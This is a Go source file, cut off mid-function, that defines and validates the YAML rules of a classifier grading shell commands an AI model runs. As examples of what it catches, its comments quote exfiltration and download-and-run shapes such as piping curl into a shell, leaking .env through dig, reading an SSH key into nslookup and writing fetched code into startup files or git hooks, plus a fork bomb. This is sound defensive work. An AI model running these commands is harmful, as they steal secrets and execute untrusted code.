package classify

import (
	_ "embed"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"sort"
	"strings"

	"go.yaml.in/yaml/v3"
)

//go:embed rules.yaml
var defaultRulesYAML []byte

// Rules is the data a Classifier judges commands with. The default rules
// live in rules.yaml beside this file (embedded in the binary, returned by
// DefaultRules); a program may load its own with ParseRules or build a Rules
// value in Go and hand it to New.
//
// The YAML format mirrors the struct (field names in snake_case):
//
//	version: 1
//	limits:    {max_length: 65536, max_depth: 8, ...}   # see Limits
//	defaults:  {unknown: warning, invalid: dangerous, ...} # see Defaults
//	commands:                      # plain commands, by name
//	  ls: safe                     # shorthand for {level: safe}
//	  rm:
//	    level: warning
//	    reason: deletes files
//	    writes: operands           # operands are judged like redirection targets
//	    match:                     # raise the level when the arguments match
//	      - flags: [-r, -R, --recursive]
//	        level: dangerous
//	        reason: deletes recursively
//	  git:
//	    level: warning
//	    check: git                 # also run the built-in git analyser
//	    value_flags: [-c, -C]      # options that take a value
//	    subcommands:               # first operand, judged with its own rule
//	      status: safe
//	wrappers:   {sudo: {level: blocked, value_flags: [-u]}, ...}   # see WrapperRule
//	shells:     {bash: {value_flags: [-o, -O]}, ...}                # see ShellRule
//	interpreters: {python3: {code_flags: [-c]}, ...}                # see InterpreterRule
//	downloaders: [curl, wget]
//	paths:                         # write targets, first match wins
//	  - {paths: [/dev/null], level: safe}
//	variables:                     # assignments that change what runs
//	  - {names: [LD_PRELOAD], level: dangerous}
//
// Names of commands, wrappers, shells and interpreters are matched against the
// base name of the command word (/usr/bin/rm is rm). A name may end in '*' to
// match a prefix (mkfs.*). A name may appear in one section only.
//
// Levels only ever go up: a command's level is the highest of its rule's
// level, every matching Match rule, its write targets and whatever it runs.
type Rules struct {
	// Version of the format; 1 is the only version.
	Version int `yaml:"version"`
	// Limits bound the work done on one command line.
	Limits Limits `yaml:"limits"`
	// Defaults are the levels of situations that no command rule covers.
	Defaults Defaults `yaml:"defaults"`
	// Commands are the plain commands, keyed by name.
	Commands map[string]*CommandRule `yaml:"commands"`
	// Wrappers are commands that run another command given as their
	// remaining arguments (env, nice, timeout, xargs, sudo, ...).
	Wrappers map[string]*WrapperRule `yaml:"wrappers"`
	// Shells are command interpreters whose -c string, here-document or
	// here-string is parsed and judged as shell code.
	Shells map[string]*ShellRule `yaml:"shells"`
	// Interpreters run code in another language (python, perl, node, ...):
	// their code cannot be judged as shell, only matched against patterns.
	Interpreters map[string]*InterpreterRule `yaml:"interpreters"`
	// Downloaders fetch content from the network; piping or substituting
	// their output into a shell or interpreter is Defaults.DownloadExec.
	Downloaders []string `yaml:"downloaders"`
	// Paths judge files that are written: output redirections and the
	// operands of commands whose rule has Writes set. The first rule whose
	// pattern matches wins; no match means Defaults.Write.
	Paths []PathRule `yaml:"paths"`
	// Variables judge assignments (X=v cmd, export X=v, env X=v cmd).
	Variables []VariableRule `yaml:"variables"`
	// Secrets judge files whose contents are secret (.env, private keys,
	// credential files): a command that names one in an argument (a word,
	// or the value of --opt=FILE) or reads it with < gets the first
	// matching rule's level, since what it prints goes back to the model.
	// Reads is ignored.
	Secrets []PathRule `yaml:"secrets"`
}

// Limits bound the work done on one command line. Input beyond a limit is
// Blocked (bash would run what was not judged). Zero fields take the default shown.
type Limits struct {
	// MaxLength is the longest command accepted, in bytes (65536).
	MaxLength int `yaml:"max_length"`
	// MaxDepth is how many shell strings may nest (bash -c "bash -c ...")
	// before the classifier stops looking (8).
	MaxDepth int `yaml:"max_depth"`
	// MaxNesting is how deeply compound commands and substitutions may
	// nest syntactically (200).
	MaxNesting int `yaml:"max_nesting"`
	// MaxCommands is how many simple commands are judged at most (4096).
	MaxCommands int `yaml:"max_commands"`
	// MaxBraceExpansion is how many words one brace expansion may produce
	// (1024); larger ones are not expanded and count as a dynamic word.
	MaxBraceExpansion int `yaml:"max_brace_expansion"`
}

// Defaults are the levels of situations no command rule covers.
type Defaults struct {
	// Unknown is the level of a command in no list (warning).
	Unknown Level `yaml:"unknown"`
	// Empty is the level of an empty command or one with only comments
	// (warning): there is nothing to run, but an empty tool call is odd.
	Empty Level `yaml:"empty"`
	// Invalid is the level of input that cannot be parsed (dangerous). It
	// is never below Warning. Input over a limit is Blocked (see Limits).
	Invalid Level `yaml:"invalid"`
	// DynamicCommand is the floor for a command whose name is not a literal
	// word: $X, $(...), a glob, a brace expansion (dangerous).
	DynamicCommand Level `yaml:"dynamic_command"`
	// Write is the level of writing a file in the working directory that no
	// path rule matches (warning).
	Write Level `yaml:"write"`
	// WriteOutside is the level of writing a file outside the working
	// directory (an absolute path, ~, ..) or one named by an expansion,
	// that no path rule matches (dangerous).
	WriteOutside Level `yaml:"write_outside"`
	// PipeToShell is the level of feeding a pipe into a shell or
	// interpreter that executes its standard input (dangerous).
	PipeToShell Level `yaml:"pipe_to_shell"`
	// DownloadExec is the level of executing what a downloader fetched
	// (curl ... | sh, bash <(wget ...), eval "$(curl ...)") (blocked).
	DownloadExec Level `yaml:"download_exec"`
	// GeneratedCode is the level of executing code produced at run time by
	// a substitution (eval "$(cmd)", bash <(cmd), source <(cmd)) (dangerous).
	GeneratedCode Level `yaml:"generated_code"`
	// ForkBomb is the level of a function that calls itself in a pipe or in
	// the background, the shape of :(){ :|:& };: (blocked).
	ForkBomb Level `yaml:"fork_bomb"`
	// UnknownVariable is the level of exporting a variable no variable rule
	// names to a program (FOO=1 cmd, env FOO=1 cmd, export FOO) (warning).
	UnknownVariable Level `yaml:"unknown_variable"`
	// Path is the level of running a program named by a path outside the
	// system directories (./ls, /tmp/x/ls): it is not the program its base
	// name suggests (warning).
	Path Level `yaml:"path"`
	// NetworkData is the level of sending text known only at run time
	// over the network: a substitution or variable in the arguments of a
	// command with check "network" (dig x$(cat .env).example.com), or a
	// file or pipe on the standard input of one with "network_stdin"
	// (nslookup < ~/.ssh/id_rsa). It may carry a file's contents off the
	// machine (dangerous).
	NetworkData Level `yaml:"network_data"`
}

// CommandRule judges one command (or subcommand). In YAML a bare level
// ("ls: safe") is shorthand for a rule with only Level.
type CommandRule struct {
	// Level is the command's level when no subcommand rule applies.
	Level Level `yaml:"level"`
	// Reason explains the level to a person; empty means a generic text.
	Reason string `yaml:"reason"`
	// Options is the command's option grammar (see Options): which options
	// it understands, which take values, and the level of each. A Safe
	// command with an option word not in it is at least Warning.
	Options Options `yaml:"options"`
	// SafeOperands, when set, are the only operands with which the command
	// is Safe (shopt's option names); any other operand is Warning.
	SafeOperands []string `yaml:"safe_operands"`
	// Writes says which operands the command writes, moves or deletes:
	// "operands" (all), "last", or "" (none). They are judged by Paths.
	Writes string `yaml:"writes"`
	// Check names a built-in analyser that also runs: find, sed, awk, tar,
	// git, source, test, names, cd, ip, dd, links (ln, cp: the line makes
	// links), goenv (go env -w NAME=VALUE is an assignment), goflags (go's
	// -gcflags, -ldflags, -asmflags and -gccgoflags are judged by the tool
	// options they pass on), gitconfig (git config -f FILE NAME VALUE
	// writes FILE), decl (export, declare ... run as a command: NAME=VALUE
	// is an assignment), let (let run as a command: its arguments are
	// arithmetic), compress (gzip FILE replaces FILE), gitrestore (git
	// restore without --staged overwrites files), recursive (grep -r, rg,
	// diff -r read a directory of secret files like its files), runs (uv
	// run, bundle exec: from the first operand that names a known command,
	// the words are judged as the command it runs; every unknown command is
	// judged so too, since it may be a wrapper such as fakeroot), moves
	// (mv of the home, root or a system directory is Blocked as rm -r of
	// it is), mirrors (so is rsync --delete onto one, or
	// --remove-source-files from one), container (docker run given the
	// host's root or home: the command it runs is judged as on the host),
	// positional (set -- ARGS: $1 ... and "$@" hold their known values),
	// later (at, batch, crontab: the code they install from the line's
	// text is judged), project (a build tool, package manager or launcher
	// the package knows, such as make, npm, npx, cargo, go, pip, uv,
	// pytest, cmake, gradle, run on a repository the line cloned runs its
	// code: see Defaults.DownloadExec; runs and python -m judge so too),
	// clone (gh repo clone REPO [DIR], hg clone, svn checkout clone a
	// repository, as git clone),
	// extract (unzip, 7z: an archive downloaded on the line may hold any
	// file, as for tar), cpio (cpio's modes: -i extracts files, anywhere
	// the archive names without --no-absolute-filenames; -p copies into
	// its directory; -o writes an archive),
	// cargo (cargo check, test, clippy, tree and metadata write target/
	// and Cargo.lock beside the project's Cargo.toml: Safe in the working
	// directory, a write where they land outside it: cargo -C /tmp test),
	// ps (procps ps reads its - options again in the BSD style when the
	// Unix style fails, where e prints the environment: ps -auxe),
	// here (the command runs code it finds where it works, terraform
	// validate the providers under .terraform: Warning in a directory
	// outside the working directory, cd /tmp/x && terraform validate),
	// sql (the commands an SQL client reads from its standard input are
	// judged by its match, or make it a program that executes its input:
	// echo '.shell id' | sqlite3 db, curl URL | psql),
	// yarn (check project, and yarn NAME or pnpm NAME that is none of
	// their own commands runs an installed package's command, judged as
	// that command: yarn rimraf ~ is rimraf ~),
	// or network,
	// network_stdin and network_send (the command sends its arguments, or
	// its standard input when it has no operands, or its standard input
	// always, over the network: see Defaults.NetworkData), sends_input
	// (network_send's part about the standard input only: httpie's body,
	// mail's message; the arguments are left to the rule), request
	// (curl, wget, aria2c, httpie: an argument that holds a secret variable, in
	// the URL or the body but not a header or user option, sends it to
	// the host: Defaults.NetworkData; httpie's input as sends_input);
	// see the package documentation.
	Check string `yaml:"check"`
	// Match raises the level when the arguments match.
	Match []MatchRule `yaml:"match"`
	// Subcommands are judged instead of Level when the first operand names
	// one of them (git status, docker system prune). Match rules of the
	// parent still apply.
	Subcommands map[string]*CommandRule `yaml:"subcommands"`

	line int
}

// MatchRule raises a command's level when every condition it sets holds for
// the command's arguments (argv without the command name). At least one
// condition must be set.
type MatchRule struct {
	// Flags: any of these options is present. Long options match "--x" and
	// "--x=value"; a single-letter option "-r" also matches inside a
	// cluster such as "-rf".
	Flags []string `yaml:"flags"`
	// Args: any argument equals one of these patterns ('*' matches any run
	// of characters, '?' one character).
	Args []string `yaml:"args"`
	// Operands: any operand (non-option argument), path-cleaned ("//" and
	// "/." collapse, "~/" is "~"), matches one of these patterns.
	Operands []string `yaml:"operands"`
	// Regex: the arguments joined with single spaces match this RE2
	// expression.
	Regex *Pattern `yaml:"regex"`
	// MinOperands: the command has at least this many operands.
	MinOperands int `yaml:"min_operands"`
	// Level is the level when the rule matches (required).
	Level Level `yaml:"level"`
	// Reason explains the level.
	Reason string `yaml:"reason"`
}

// WrapperRule describes a command that runs another command: the words left
// after its options (and Positionals) are judged as a command of their own,
// and the verdict is the higher of the two.
type WrapperRule struct {
	// Level is the level of the wrapper itself (sudo is blocked, nice is
	// safe).
	Level Level `yaml:"level"`
	// Reason explains Level.
	Reason string `yaml:"reason"`
	// Options is the wrapper's option grammar (see Options). The command
	// it runs starts at the first operand after them.
	Options Options `yaml:"options"`
	// Positionals is the number of operands before the command
	// (timeout DURATION cmd, chroot DIR cmd).
	Positionals int `yaml:"positionals"`
	// OptionsAfterPositionals: the wrapper reads options again after its
	// positionals, up to the command (ssh host -o KEY=VALUE cmd).
	OptionsAfterPositionals bool `yaml:"options_after_positionals"`
	// WritesPositionals says the positionals name files the wrapper
	// creates or writes (flock FILE cmd creates FILE): each is judged like
	// a redirection target (a number with no command after it, a file
	// descriptor, is not: flock 9).
	WritesPositionals bool `yaml:"writes_positionals"`
	// Assignments: NAME=value words before the command are skipped (env).
	Assignments bool `yaml:"assignments"`
	// LoneDash: a lone "-" after the options is an option, not the
	// command (env - is env -i).
	LoneDash bool `yaml:"lone_dash"`
	// StdinShell: given no command, the wrapper runs a shell on its
	// standard input (script, unshare), which is judged as shell code.
	StdinShell bool `yaml:"stdin_shell"`
	// SendsStdin: the wrapper sends what it reads on its standard input
	// to another host (ssh HOST CMD, unless -n), so a file or a pipe on
	// it is Defaults.NetworkData, as for nc.
	SendsStdin bool `yaml:"sends_stdin"`
	// SplitFlags are options whose value is split into words that prefix
	// the command (env -S "rm -rf").
	SplitFlags []string `yaml:"split_flags"`
	// StringFlags are options whose value is a shell command string
	// (su -c, flock -c, script -c).
	StringFlags []string `yaml:"string_flags"`
	// NoExecFlags are options with which nothing is run (command -v).
	NoExecFlags []string `yaml:"noexec_flags"`
	// Alone is the level of the wrapper given no command, when it then
	// does something of its own (env alone prints the environment, its
	// secrets among it); AloneReason explains it.
	Alone       Level  `yaml:"alone"`
	AloneReason string `yaml:"alone_reason"`
	// Join: the remaining words are joined with spaces and run by a shell
	// (eval, watch, ssh).
	Join bool `yaml:"join"`
	// KeyNames are words that, among the joined words, press a key that
	// ends the typed line (tmux send-keys' Enter, C-m): the shell code has
	// a line break in their place.
	KeyNames []string `yaml:"key_names"`
	// StringOperand: the first operand is a shell command string and the
	// rest are not a command (trap 'cmd' EXIT).
	StringOperand bool `yaml:"string_operand"`
	// StdinArgs: the command gets more operands from standard input
	// (xargs), so its operands are not all known. They follow the
	// command's own arguments, unless a ReplaceFlags option is used.
	StdinArgs bool `yaml:"stdin_args"`
	// ReplaceFlags are options whose value is the text that, anywhere in
	// the command's arguments, stands for each item read from standard
	// input (xargs -I STR); used without a value (xargs -i) the text is
	// "{}". With one, the items fill those arguments instead of following
	// them. An argument the command writes that holds the text names a
	// file only known at run time (Defaults.WriteOutside).
	ReplaceFlags []string `yaml:"replace_flags"`
	// LineItems: each line of the input is one item, and so is each word
	// after a ::: operand; each runs the command on its own, with the item
	// as one more word or in place of {} (GNU parallel).
	LineItems bool `yaml:"line_items"`
}

// ShellRule describes a shell. With -c its first operand is parsed and
// judged; with a script operand it is Level; with no operand it executes
// its standard input: a here-document or here-string is parsed and judged,
// a pipe is Defaults.PipeToShell.
type ShellRule struct {
	// Level is the level of running a script file or an interactive shell
	// (warning).
	Level Level `yaml:"level"`
	// ValueFlags are options that take a value (-o, -O, --rcfile).
	ValueFlags []string `yaml:"value_flags"`
	// Options is the grammar of the long options (--norc) of a shell whose
	// Syntax is bash; one not in it makes the shell at least Warning. Its
	// single-letter options are judged as the set (-k, -o NAME) and shopt
	// (-O NAME) commands they stand for; -c, -s, -i, -l, -r and -D are the
	// shell's own.
	Options Options `yaml:"options"`
	// Syntax is "bash" for a shell whose code is bash's or a subset of it
	// (sh, dash): its options are then judged as the set and shopt
	// commands they stand for. Any other shell's code is parsed as bash
	// all the same, but what it does is not understood: running it is at
	// least Warning.
	Syntax string `yaml:"syntax"`
}

// InterpreterRule describes an interpreter of another language. Its inline
// code (python -c), script or standard input cannot be judged as shell:
// the interpreter's level is Level, raised by Match (matched against the
// arguments, or against here-document text), and a pipe into it is
// Defaults.PipeToShell.
type InterpreterRule struct {
	// Level is the level of running code with the interpreter (warning).
	Level Level `yaml:"level"`
	// CodeFlags are options whose value is inline code (-c, -e).
	CodeFlags []string `yaml:"code_flags"`
	// CodeWords are subcommands, first after the options, whose next
	// argument is inline code (deno eval CODE).
	CodeWords []string `yaml:"code_words"`
	// RunWords are subcommands, first after the options, that run the
	// script named after their own options (deno run -A main.ts; "-" is
	// the standard input, as for the interpreter itself).
	RunWords []string `yaml:"run_words"`
	// CommandWords are subcommands, first after the options, that are
	// another command of Commands, by its name: the words after one are
	// judged as that command's (bun x PKG is bunx PKG).
	CommandWords map[string]string `yaml:"command_words"`
	// ValueFlags are other options that take a value (-m, -W).
	ValueFlags []string `yaml:"value_flags"`
	// InPlaceFlags are options that make the interpreter rewrite the files
	// named after its code (perl -pi -e CODE FILE, ruby -i): those files
	// are judged as written. The flag may be bundled (-pi), and the rest
	// of its word is a backup suffix (-i.bak).
	InPlaceFlags []string `yaml:"in_place_flags"`
	// Match raises the level when the inline code or arguments match.
	Match []MatchRule `yaml:"match"`
}

// PathRule judges a written path (or, with Reads, also a read one).
type PathRule struct {
	// Paths are patterns ('*' matches any run of characters, '/' too)
	// matched against the cleaned path. A written name that is a glob
	// matches every rule it could expand to a match of, and is judged by
	// the highest of them.
	Paths []string `yaml:"paths"`
	// Level is the level of writing a matching path.
	Level Level `yaml:"level"`
	// Reason explains the level.
	Reason string `yaml:"reason"`
	// Reads: the rule also applies to input redirections (/dev/tcp/...).
	Reads bool `yaml:"reads"`
	// RunsLater: a shell or the system runs a matching file's contents
	// later, unasked (a shell's start-up file, a git hook, a crontab, a
	// systemd unit): writing downloaded content there (curl URL >>
	// ~/.bashrc, curl -o .git/hooks/pre-commit URL, curl URL | tee
	// /etc/profile.d/x.sh) is Defaults.DownloadExec, as curl URL | sh is.
	// Every rule with RunsLater is tried, not only the first that matches.
	RunsLater bool `yaml:"runs_later"`
}

// VariableRule judges assigning one of Names (LD_PRELOAD=x cmd, export
// PATH=...). Names may end in '*'.
type VariableRule struct {
	// Names are the variable names.
	Names []string `yaml:"names"`
	// Level is the level of assigning one of them.
	Level Level `yaml:"level"`
	// Reason explains the level.
	Reason string `yaml:"reason"`
	// SafeValues are literal values with which the assignment is Safe
	// (GIT_PAGER=cat).
	SafeValues []string `yaml:"safe_values"`
	// Code: the value is a shell command line a program runs (PAGER,
	// GIT_SSH_COMMAND, PROMPT_COMMAND): a known value is also judged as
	// shell code (PAGER='rm -rf ~' git log is rm -rf ~).
	Code bool `yaml:"code"`
	// Reads: the rule judges expanding one of Names ($GITHUB_TOKEN,
	// ${X:0:8}) that the line did not set, whose value goes where the
	// command puts it, back to the model; not assigning it. ${#X},
	// ${X:+word} and ${!X*} give no part of the value and are not judged.
	Reads bool `yaml:"reads"`
}

// Pattern is a compiled RE2 regular expression that reads and writes itself
// as its source text in YAML.
type Pattern struct {
	*regexp.Regexp
}

// MustPattern compiles expr or panics; it is meant for rules written in Go.
func MustPattern(expr string) *Pattern {
	return &Pattern{regexp.MustCompile(expr)}
}

// UnmarshalYAML implements yaml.Unmarshaler: it compiles the expression and
// reports a bad one with its line.
func (p *Pattern) UnmarshalYAML(n *yaml.Node) error {
	if n.Kind != yaml.ScalarNode {
		return fmt.Errorf("line %d: regex must be a string", n.Line)
	}
	re, err := regexp.Compile(n.Value)
	if err != nil {
		return fmt.Errorf("line %d: bad regex %q: %v", n.Line, n.Value, err)
	}
	p.Regexp = re
	return nil
}

// MarshalYAML implements yaml.Marshaler.
func (p *Pattern) MarshalYAML() (any, error) {
	if p == nil || p.Regexp == nil {
		return nil, nil
	}
	return p.String(), nil
}

// UnmarshalYAML implements yaml.Unmarshaler so that a bad level is reported
// with its line.
func (l *Level) UnmarshalYAML(n *yaml.Node) error {
	if n.Kind != yaml.ScalarNode {
		return fmt.Errorf("line %d: a level must be one of safe, warning, dangerous, blocked", n.Line)
	}
	v, err := ParseLevel(n.Value)
	if err != nil {
		return fmt.Errorf("line %d: unknown level %q (want safe, warning, dangerous or blocked)", n.Line, n.Value)
	}
	*l = v
	return nil
}

// UnmarshalYAML implements yaml.Unmarshaler: it accepts a bare level as
// shorthand, rejects unknown keys and remembers the rule's line for errors.
func (r *CommandRule) UnmarshalYAML(n *yaml.Node) error {
	r.line = n.Line
	if n.Kind == yaml.ScalarNode {
		return r.Level.UnmarshalYAML(n)
	}
	if err := checkKeys(n, "level", "reason", "options", "options_complete", "option_style", "safe_operands", "writes", "check", "match", "subcommands"); err != nil {
		return err
	}
	if !hasKey(n, "level") {
		return fmt.Errorf("line %d: command rule needs a level", n.Line)
	}
	type plain CommandRule
	if err := n.Decode((*plain)(r)); err != nil {
		return err
	}
	if err := decodeOptionKeys(n, &r.Options); err != nil {
		return err
	}
	r.line = n.Line
	switch r.Writes {
	case "", "operands", "last":
	default:
		return fmt.Errorf("line %d: writes must be \"operands\" or \"last\", not %q", n.Line, r.Writes)
	}
	if r.Check != "" {
		if _, ok := checks[r.Check]; !ok {
			return fmt.Errorf("line %d: unknown check %q (want one of %s)", n.Line, r.Check, checkNames())
		}
	}
	return nil
}

// UnmarshalYAML implements yaml.Unmarshaler: it rejects unknown keys and
// match rules without a condition or a level.
func (m *MatchRule) UnmarshalYAML(n *yaml.Node) error {
	if err := checkKeys(n, "flags", "args", "operands", "regex", "min_operands", "level", "reason"); err != nil {
		return err
	}
	if !hasKey(n, "level") {
		return fmt.Errorf("line %d: match rule needs a level", n.Line)
	}
	type plain MatchRule
	if err := n.Decode((*plain)(m)); err != nil {
		return err
	}
	if len(m.Flags) == 0 && len(m.Args) == 0 && len(m.Operands) == 0 && m.Regex == nil && m.MinOperands == 0 {
		return fmt.Errorf("line %d: match rule needs a condition (flags, args, operands, regex or min_operands)", n.Line)
	}
	return nil
}

// UnmarshalYAML implements yaml.Unmarshaler: it rejects unknown keys.
func (w *WrapperRule) UnmarshalYAML(n *yaml.Node) error {
	if n.Kind == yaml.ScalarNode {
		return w.Level.UnmarshalYAML(n)
	}
	if err := checkKeys(n, "level", "reason", "options", "options_complete", "option_style", "positionals", "assignments", "split_flags",
		"string_flags", "noexec_flags", "join", "string_operand", "stdin_args", "replace_flags", "writes_positionals",
		"options_after_positionals", "lone_dash", "stdin_shell", "sends_stdin", "line_items", "alone", "alone_reason", "key_names"); err != nil {
		return err
	}
	type plain WrapperRule
	if err := n.Decode((*plain)(w)); err != nil {
		return err
	}
	if err := decodeOptionKeys(n, &w.Options); err != nil {
		return err
	}
	if w.Positionals < 0 {
		return fmt.Errorf("line %d: positionals must not be negative", n.Line)
	}
	if len(w.KeyNames) > 0 && !w.Join {
		return fmt.Errorf("line %d: key_names needs join: true (they are line breaks in the joined words)", n.Line)
	}
	for _, f := range slices.Concat(w.SplitFlags, w.StringFlags) {
		if op := w.Options.lookup(f); op == nil || op.Arg != RequiredArg {
			return fmt.Errorf("line %d: %s must be in options as %s= (it takes a value)", n.Line, f, f)
		}
	}
	for _, f := range slices.Concat(w.NoExecFlags, w.ReplaceFlags) {
		if w.Options.lookup(f) == nil {
			return fmt.Errorf("line %d: %s must be in options", n.Line, f)
		}
	}
	return nil
}

// UnmarshalYAML implements yaml.Unmarshaler: it rejects unknown keys and
// makes Warning the default level.
func (s *ShellRule) UnmarshalYAML(n *yaml.Node) error {
	s.Level = Warning
	if n.Kind == yaml.ScalarNode && n.Tag == "!!null" {
		return nil
	}
	if err := checkKeys(n, "level", "value_flags", "syntax", "options"); err != nil {
		return err
	}
	type plain ShellRule
	if err := n.Decode((*plain)(s)); err != nil {
		return err
	}
	if s.Syntax != "" && s.Syntax != "bash" {
		return fmt.Errorf("line %d: syntax must be bash or left out, not %q", n.Line, s.Syntax)
	}
	return nil
}

// UnmarshalYAML implements yaml.Unmarshaler: it rejects unknown keys and
// makes Warning the default level.
func (r *InterpreterRule) UnmarshalYAML(n *yaml.Node) error {
	r.Level = Warning
	if n.Kind == yaml.ScalarNode && n.Tag == "!!null" {
		return nil
	}
	if err := checkKeys(n, "level", "code_flags", "code_words", "run_words", "command_words", "value_flags", "in_place_flags", "match"); err != nil {
		return err
	}
	type plain InterpreterRule
	return n.Decode((*plain)(r))
}

func hasKey(n *yaml.Node, key string) bool {
	if n.Kind != yaml.MappingNode {
		return false
	}
	for i := 0; i+1 < len(n.Content); i += 2 {
		if n.Content[i].Value == key {
			return true
		}
	}
	return false
}

func checkKeys(n *yaml.Node, allowed ...string) error {
	if n.Kind != yaml.MappingNode {
		return fmt.Errorf("line %d: expected a mapping with keys %s", n.Line, strings.Join(allowed, ", "))
	}
	for i := 0; i+1 < len(n.Content); i += 2 {
		k := n.Content[i]
		found := false
		for _, a := range allowed {
			if k.Value == a {
				found = true
				break
			}
		}
		if !found {
			return fmt.Errorf("line %d: unknown key %q (want one of %s)", k.Line, k.Value, strings.Join(allowed, ", "))
		}
	}
	return nil
}

// ParseRules reads rules in the YAML format described on Rules. Errors name
// the line and the rule that is wrong. Limits and defaults left out of data
// keep their default values; the lists (commands, wrappers, ...) start empty,
// so a file meant to extend the defaults should start from a copy of
// rules.yaml.
func ParseRules(data []byte) (Rules, error) {
	r := Rules{Limits: defaultLimits(), Defaults: defaultDefaults()}
	var doc yaml.Node
	if err := yaml.Unmarshal(data, &doc); err != nil {
		return Rules{}, fmt.Errorf("classify: rules: %w", err)
	}
	if len(doc.Content) == 0 {
		return Rules{}, errors.New("classify: rules: empty document")
	}
	root := doc.Content[0]
	if err := checkKeys(root, "version", "limits", "defaults", "commands", "wrappers", "shells",
		"interpreters", "downloaders", "paths", "variables", "secrets"); err != nil {
		return Rules{}, fmt.Errorf("classify: rules: %w", err)
	}
	for i := 0; i+1 < len(root.Content); i += 2 {
		var err error
		switch k, v := root.Content[i].Value, root.Content[i+1]; k {
		case "limits":
			if err = checkKeys(v, "max_length", "max_depth", "max_nesting", "max_commands", "max_brace_expansion"); err == nil {
				err = v.Decode(&r.Limits)
			}
		case "defaults":
			if err = checkKeys(v, "unknown", "empty", "invalid", "dynamic_command", "write", "pipe_to_shell",
				"download_exec", "generated_code", "fork_bomb", "unknown_variable", "path", "write_outside",
				"network_data"); err == nil {
				err = v.Decode(&r.Defaults)
			}
		case "paths":
			err = decodeList(v, &r.Paths, "paths", "level", "reason", "reads", "runs_later")
		case "variables":
			err = decodeList(v, &r.Variables, "names", "level", "reason", "safe_values", "code", "reads")
		case "secrets":
			err = decodeList(v, &r.Secrets, "paths", "level", "reason")
		case "version":
			err = v.Decode(&r.Version)
		case "commands":
			err = v.Decode(&r.Commands)
		case "wrappers":
			err = v.Decode(&r.Wrappers)
		case "shells":
			err = v.Decode(&r.Shells)
		case "interpreters":
			err = v.Decode(&r.Interpreters)
		case "downloaders":
			err = v.Decode(&r.Downloaders)
		}
		if err != nil {
			return Rules{}, fmt.Errorf("classify: rules: %w", err)
		}
	}
	if err := r.Validate(); err != nil {
		return Rules{}, err
	}
	return r, nil
}

func decodeList[T any](n *yaml.Node, out *[]T, keys ...string) error {
	if n.Kind != yaml.SequenceNode {
		return fmt.Errorf("line %d: expected a list", n.Line)
	}
	for _, item := range n.Content {
		if err := checkKeys(item, keys...); err != nil {
			return err
		}
		if !hasKey(item, "level") {
			return fmt.Errorf("line %d: rule needs a level", item.Line)
		}
	}
	return n.Decode(out)
}

// Validate checks rules built in Go the way ParseRules checks YAML: known
// version, sane limits, levels in range, Invalid not Safe, each name in one
// section only, known checks.
func (r *Rules) Validate() error {
	fail := func(format string, args ...any) error {
		return fmt.Errorf("classify: rules: "+format, args...)
	}
	if r.Version != 1 {
		return fail("version must be 1, not %d", r.Version)
	}
	l := r.Limits
	if l.MaxLength < 0 || l.MaxDepth < 0 || l.MaxNesting < 0 || l.MaxCommands < 0 || l.MaxBraceExpansion < 0 {
		return fail("limits must not be negative")
	}
	d := r.Defaults
	for _, lv := range []Level{d.Unknown, d.Empty, d.Invalid, d.DynamicCommand, d.Write, d.PipeToShell, d.DownloadExec, d.GeneratedCode, d.ForkBomb, d.UnknownVariable, d.Path, d.WriteOutside} {
		if lv < Safe || lv > Blocked {
			return fail("default level %d out of range", int(lv))
		}
	}
	if d.Invalid < Warning {
		return fail("defaults.invalid must be at least warning: what cannot be parsed is never safe")
	}
	for i, sr := range r.Secrets {
		if sr.Level < Safe || sr.Level > Blocked {
			return fail("secrets rule %d: level %d out of range", i+1, int(sr.Level))
		}
		if len(sr.Paths) == 0 {
			return fail("secrets rule %d: no paths: list the files it judges", i+1)
		}
	}
	seen := map[string]string{}
	add := func(section, name string) error {
		if name == "" {
			return fail("%s: empty name", section)
		}
		if prev, ok := seen[name]; ok {
			return fail("%q is in both %s and %s", name, prev, section)
		}
		seen[name] = section
		return nil
	}
	for _, name := range sortedKeys(r.Commands) {
		if err := add("commands", name); err != nil {
			return err
		}
		if err := validateCommand(name, r.Commands[name]); err != nil {
			return err
		}
	}
	for _, name := range sortedKeys(r.Wrappers) {
		if err := add("wrappers", name); err != nil {
			return err
		}
		if r.Wrappers[name] == nil {
			return fail("wrapper %q: empty rule", name)
		}
	}
	for _, name := range sortedKeys(r.Shells) {
		if err := add("shells", name); err != nil {
			return err
		}
		if r.Shells[name] == nil {
			r.Shells[name] = &ShellRule{Level: Warning}
		}
	}
	for _, name := range sortedKeys(r.Interpreters) {
		if err := add("interpreters", name); err != nil {
			return err
		}
		if r.Interpreters[name] == nil {
			r.Interpreters[name] = &InterpreterRule{Level: Warning}
		}
		for _, w := range sortedKeys(r.Interpreters[name].CommandWords) {
			if cmd := r.Interpreters[name].CommandWords[w]; r.Commands[cmd] == nil {
				return fail("interpreter %q: command_words %q names %q, which is not in commands: add a rule for %q there or drop the word", name, w, cmd, cmd)
			}
		}
	}
	return nil
}

func validateCommand(name string, c *CommandRule) error {
	if c == nil {
		return fmt.Errorf("classify: rules: command %q: empty rule", name)
	}
	at := ""
	if c.line > 0 {
		at = fmt.Sprintf(" (line %d)", c.line)
	}
	if c.Level < Safe || c.Level > Blocked {
		return fmt.Errorf("classify: rules: command %q%s: level out of range", name, at)
	}
	if c.Check != "" {
		if _, ok := checks[c.Check]; !ok {
			return fmt.Errorf("classify: rules: command %q%s: unknown check %q", name, at, c.Check)
		}
	}
	for i, m := range c.Match {
		if len(m.Flags) == 0 && len(m.Args) == 0 && len(m.Operands) == 0 && m.Regex == nil && m.MinOperands == 0 {
			return fmt.Errorf("classify: rules: command %q%s: match rule %d has no condition", name, at, i+1)
		}
	}
	for _, sub := range sortedKeys(c.Subcommands) {
		if err := validateCommand(name+" "+sub, c.Subcommands[sub]); err != nil {
			return err
		}
	}
	return nil
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

func defaultLimits() Limits {
	return Limits{MaxLength: 64 << 10, MaxDepth: 8, MaxNesting: 200, MaxCommands: 4096, MaxBraceExpansion: 1024}
}

func defaultDefaults() Defaults {
	return Defaults{
		Unknown:         Warning,
		Empty:           Warning,
		Invalid:         Dangerous,
		DynamicCommand:  Dangerous,
		Write:           Warning,
		PipeToShell:     Dangerous,
		DownloadExec:    Blocked,
		GeneratedCode:   Dangerous,
		ForkBomb:        Blocked,
		UnknownVariable: Warning,
		WriteOutside:    Dangerous,
		Path:            Warning,
